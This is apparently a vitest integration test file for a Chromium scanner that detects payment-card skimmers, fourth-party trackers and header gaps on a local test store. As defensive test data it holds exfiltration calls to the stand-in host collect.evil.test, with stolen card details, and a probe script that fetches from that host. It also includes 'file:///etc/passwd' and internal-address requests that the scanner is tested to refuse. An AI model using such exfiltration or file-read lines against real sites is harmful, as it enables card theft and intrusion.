// The scanner against the local test store in real Chromium: each variant's scripts, parties,
// field reads, connections and headers, a script whose bytes change between scans, the gate that
// keeps the browser off internal addresses, the time-out, and that nothing left 127.0.0.1.
import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoStore } from '../../../demo/demo-store.js';
import { VENDOR_HOSTS } from '../../../dev/test-store/test-store.js';
import { outsideLoopback, recordConnections } from '../../../testing/connections.js';
import { startTestStore, type TestStore, testStoreRequest, testStoreScanConfig } from '../../../testing/test-store.js';
import { browserProcesses } from './browser-processes.js';
import type { ScanResult } from './scan.types.js';
import { checked } from './scan-page.js';
import { ChromiumScanner, ScanFailed, ScannerUnavailable, ScanRefused } from './scanner.js';

let store: TestStore;
let scanner: ChromiumScanner;
const connections = recordConnections();

beforeAll(async () => {
  store = await startTestStore();
  scanner = new ChromiumScanner(testStoreScanConfig(store));
});

afterAll(async () => {
  await scanner.close();
  await store.close();
  connections.stop();
});

const script = (result: ScanResult, url: string) => {
  const found = result.scripts.find((s) => s.url === url);
  if (!found) throw new Error(`no script ${url} in ${result.scripts.map((s) => s.key).join(', ')}`);
  return found;
};
const APP = 'http://static.acme-shop.test/js/app.js';
const ANALYTICS = `http://${VENDOR_HOSTS.analytics}/analytics.js`;
const SKIMMER = `http://${VENDOR_HOSTS.skimmer}/jquery-3.7.1.min.js`;
const WIDGET = `http://${VENDOR_HOSTS.widget}/widget.js`;
const PIXEL = `http://${VENDOR_HOSTS.tracker}/pixel.js`;
const PAGE_URL = 'http://www.acme-shop.test/clean/checkout';

describe('the scanner against the test store', () => {
  it('inventories a clean checkout: first-party code under SRI, the inline data layer, the analytics tag, the headers', async () => {
    const result = await scanner.scan(testStoreRequest('clean'));
    expect(result.status).toBe(200);
    expect(result.finalUrl).toBe('http://www.acme-shop.test/clean/checkout');
    expect(result.scripts).toHaveLength(3);
    expect(script(result, APP)).toMatchObject({
      kind: 'external',
      party: 'first',
      sri: true,
      loadedBy: null,
      reads: ['card'],
    });
    expect(script(result, ANALYTICS)).toMatchObject({
      party: 'third',
      sri: false,
      host: VENDOR_HOSTS.analytics,
      reads: [],
    });
    const inline = result.scripts.find((s) => s.kind === 'inline');
    expect(inline).toMatchObject({ party: 'first', url: null, host: null });
    expect(inline?.key).toBe(`inline:${inline?.sha256}`);
    expect(inline?.content).toContain('window.dataLayer');
    expect(script(result, APP).sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(result.connections).toEqual(
      expect.arrayContaining([
        {
          initiator: ANALYTICS,
          host: VENDOR_HOSTS.analytics,
          url: `http://${VENDOR_HOSTS.analytics}/collect`,
          kind: 'beacon',
        },
        { initiator: APP, host: 'www.acme-shop.test', url: 'http://www.acme-shop.test/api/pay', kind: 'fetch' },
        { initiator: null, host: VENDOR_HOSTS.analytics, url: ANALYTICS, kind: 'script' },
      ]),
    );
    expect(result.connections.some((c) => c.host === VENDOR_HOSTS.collect)).toBe(false);
    expect(Object.keys(result.headers).sort()).toEqual([
      'content-security-policy',
      'permissions-policy',
      'referrer-policy',
      'strict-transport-security',
      'x-content-type-options',
      'x-frame-options',
    ]);
    expect(result.headers['content-security-policy']).toContain("frame-ancestors 'self'");
  });

  it('catches the skimmer: it reads the card and personal fields and sends them to the collection host', async () => {
    const before = store.collected.length;
    const result = await scanner.scan(testStoreRequest('skimmer'));
    expect(script(result, SKIMMER)).toMatchObject({ party: 'third', sri: false, loadedBy: null });
    expect(script(result, SKIMMER).reads.sort()).toEqual(['card', 'personal']);
    expect(script(result, SKIMMER).content).toContain('btoa(loot)');
    const exfiltration = result.connections.filter((c) => c.host === VENDOR_HOSTS.collect);
    expect(exfiltration.map((c) => [c.kind, c.url, c.initiator]).sort()).toEqual([
      ['fetch', 'http://collect.evil.test/c', SKIMMER],
      ['image', 'http://collect.evil.test/p.gif', SKIMMER],
      ['websocket', 'ws://collect.evil.test/ws', SKIMMER],
    ]);
    // The skimmer really ran (the collection host got the card), and no stolen data is kept.
    expect(store.collected.slice(before).map((c) => Buffer.from(c.body, 'base64').toString())).toContain(
      '4111 1111 1111 1111|12/30|123|jane.doe@example.com',
    );
    expect(JSON.stringify(result.connections)).not.toMatch(/\?|NDEx/);
    expect(script(result, ANALYTICS).reads).toEqual([]);
  });

  it('names the fourth party: a tracker the chat widget inserted, and what the tracker contacts', async () => {
    const result = await scanner.scan(testStoreRequest('fourth-party'));
    expect(script(result, WIDGET)).toMatchObject({ party: 'third', loadedBy: null });
    expect(script(result, PIXEL)).toMatchObject({ party: 'fourth', loadedBy: WIDGET });
    expect(result.connections).toEqual(
      expect.arrayContaining([
        { initiator: WIDGET, host: VENDOR_HOSTS.tracker, url: PIXEL, kind: 'script' },
        { initiator: PIXEL, host: VENDOR_HOSTS.tracker, url: 'http://tracker.adnet.test/px.gif', kind: 'image' },
      ]),
    );
  });

  it('sees a third-party script change between two scans, and nothing else', async () => {
    const first = await scanner.scan(testStoreRequest('clean'));
    store.switches.analyticsVersion = 2;
    try {
      const second = await scanner.scan(testStoreRequest('clean'));
      expect(script(second, ANALYTICS).sha256).not.toBe(script(first, ANALYTICS).sha256);
      expect(script(second, APP).sha256).toBe(script(first, APP).sha256);
      expect(second.scripts.map((s) => s.key).sort()).toEqual(first.scripts.map((s) => s.key).sort());
    } finally {
      store.switches.analyticsVersion = 1;
    }
  });

  it('reports the headers as received: the no-csp variant has no Content-Security-Policy', async () => {
    const result = await scanner.scan(testStoreRequest('no-csp'));
    expect(result.headers['content-security-policy']).toBeUndefined();
    expect(result.headers['x-frame-options']).toBe('SAMEORIGIN');
  });
});

describe('a hostile page', () => {
  it("cannot see the scanner's reporting function, and what it sends the scanner without the key is dropped", async () => {
    const probe = `fetch('http://collect.evil.test/probe?n=' + Object.getOwnPropertyNames(window).filter(function (n) { return /vigil/i.test(n); }).length);`;
    store.switches.extraScript = `data:text/javascript,${encodeURIComponent(probe)}`;
    try {
      await scanner.scan({ ...testStoreRequest('no-csp'), steps: [] });
    } finally {
      store.switches.extraScript = undefined;
    }
    expect(store.collected.map((c) => c.path)).toContain('/probe?n=0');
    const report = { t: 'read', field: 'card', stack: 'Error', key: 'k1' };
    expect(checked(report, 'k1', PAGE_URL)).toEqual({ t: 'read', field: 'card', stack: 'Error', frameUrl: PAGE_URL });
    expect(checked({ ...report, key: 'k2' }, 'k1', PAGE_URL)).toBeUndefined();
    expect(checked({ ...report, key: undefined }, 'k1', PAGE_URL)).toBeUndefined();
    expect(checked({ ...report, field: 'password' }, 'k1', PAGE_URL)).toBeUndefined();
  });
});

describe('the demo store', () => {
  const scanDemo = (pageType: string) => {
    const page = demoStore.pages.find((p) => p.pageType === pageType);
    if (!page) throw new Error(pageType);
    return scanner.scan({ url: page.url, steps: page.steps, firstPartyDomains: demoStore.domains });
  };

  it('has one skimmer, on the payment page, among normal scripts', async () => {
    const [product, cart, payment] = await Promise.all([
      scanDemo('product'),
      scanDemo('checkout'),
      scanDemo('payment'),
    ]);
    const skimmed = (r: ScanResult) => r.connections.some((c) => c.host === VENDOR_HOSTS.collect);
    expect([product, cart, payment].map(skimmed)).toEqual([false, false, true]);
    expect(script(payment, SKIMMER).reads.sort()).toEqual(['card', 'personal']);
    expect(script(product, PIXEL)).toMatchObject({ party: 'fourth', loadedBy: WIDGET });
    expect(script(product, 'http://static.acme-retail-store.test/js/product.js').party).toBe('first');
    expect(payment.headers['content-security-policy']).toBeDefined();
  });
});

describe('the gate and the limits', () => {
  let internal: Server;
  let internalHits = 0;
  beforeAll(async () => {
    internal = createServer((_req, res) => {
      internalHits += 1;
      res.end('window.internal = true;');
    });
    await new Promise<void>((resolve) => internal.listen(0, '127.0.0.1', resolve));
  });
  afterAll(() => new Promise<void>((resolve) => internal.close(() => resolve())));
  const internalUrl = () => {
    const address = internal.address();
    return `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}/internal.js`;
  };

  it('refuses a page on a private address, before loading anything', async () => {
    await expect(scanner.scan({ url: internalUrl(), steps: [], firstPartyDomains: [] })).rejects.toThrow(ScanRefused);
    await expect(scanner.scan({ url: 'http://localhost.example/', steps: [], firstPartyDomains: [] })).rejects.toThrow(
      /not one of the reachable test hosts/,
    );
    await expect(scanner.scan({ url: 'file:///etc/passwd', steps: [], firstPartyDomains: [] })).rejects.toThrow(
      'Only http and https pages are scanned.',
    );
    const goto = { action: 'goto' as const, url: 'file:///etc/passwd' };
    await expect(scanner.scan({ ...testStoreRequest('clean'), steps: [goto] })).rejects.toThrow(
      new ScanRefused('Only http and https pages are scanned.'),
    );
    expect(internalHits).toBe(0);
  });

  it('does not let a page make the browser load from an internal address or any host outside the map', async () => {
    const contactedBefore = (await scanner.proxyNow()).contacted.length;
    store.switches.extraScript = internalUrl();
    try {
      const result = await scanner.scan(testStoreRequest('clean'));
      expect(result.scripts.some((s) => s.url?.includes('internal.js'))).toBe(false);
      store.switches.extraScript = 'https://cdn.example.com/lib.js';
      await scanner.scan(testStoreRequest('clean'));
    } finally {
      store.switches.extraScript = undefined;
    }
    expect(internalHits).toBe(0);
    const contacted = (await scanner.proxyNow()).contacted.slice(contactedBefore);
    expect(new Set(contacted)).toEqual(new Set([`127.0.0.1:${store.port}`]));
  });

  it('scans a private address only where the deployment allows it', async () => {
    const allowed = new ChromiumScanner(
      testStoreScanConfig(store, { privateTargets: true, mappedOnly: false, hostMap: {} }),
    );
    try {
      const result = await allowed.scan({ url: internalUrl(), steps: [], firstPartyDomains: [] });
      expect(result.status).toBe(200);
      expect(internalHits).toBeGreaterThan(0);
    } finally {
      await allowed.close();
      internalHits = 0;
    }
  });

  it('stops a page that does not finish within the time-out, and the next scan still works', async () => {
    const quick = new ChromiumScanner(testStoreScanConfig(store, { timeoutMs: 5000 }));
    const plain = { ...testStoreRequest('no-csp'), steps: [] };
    try {
      await expect(quick.scan(plain)).resolves.toMatchObject({ status: 200 });
      const started = Date.now();
      await expect(
        quick.scan({ url: 'http://www.acme-shop.test/stall', steps: [], firstPartyDomains: [] }),
      ).rejects.toThrow(new ScanFailed('The page did not finish within 5000 ms.'));
      // The time-out plus the closing of the page's context, with room for a loaded machine.
      expect(Date.now() - started).toBeLessThan(10_000);
      await expect(quick.scan(plain)).resolves.toMatchObject({ status: 200 });
    } finally {
      await quick.close();
    }
  });

  it('scans pages in parallel in one browser, and launches it again when it crashed', async () => {
    const launchesBefore = scanner.launches;
    const results = await Promise.all(
      (['clean', 'skimmer', 'fourth-party'] as const).map((v) => scanner.scan(testStoreRequest(v))),
    );
    expect(results.map((r) => r.status)).toEqual([200, 200, 200]);
    expect(scanner.launches).toBe(launchesBefore);
    // A crash: the browser process killed from outside.
    const main = browserProcesses((await scanner.proxyNow()).url).filter((p) => p.main);
    expect(main.length).toBeGreaterThan(0);
    for (const p of main) process.kill(p.pid, 'SIGKILL');
    await new Promise((resolve) => setTimeout(resolve, 500));
    await expect(scanner.scan(testStoreRequest('clean'))).resolves.toMatchObject({ status: 200 });
    expect(scanner.launches).toBe(launchesBefore + 1);
  });

  it('says what to install when Chromium is missing', async () => {
    const missing = new ChromiumScanner(testStoreScanConfig(store, { chromiumPath: '/nonexistent/chromium' }));
    await expect(missing.scan(testStoreRequest('clean'))).rejects.toThrow(
      new ScannerUnavailable(
        "Chromium was not found at /nonexistent/chromium: install Debian's chromium package (apt-get install chromium) or set SCAN_CHROMIUM_PATH.",
      ),
    );
    await missing.close();
  });

  it('contacted nothing outside 127.0.0.1 from this process (the proxy included)', () => {
    expect(connections.targets().length).toBeGreaterThan(0);
    expect(outsideLoopback(connections.targets())).toEqual([]);
  });
});
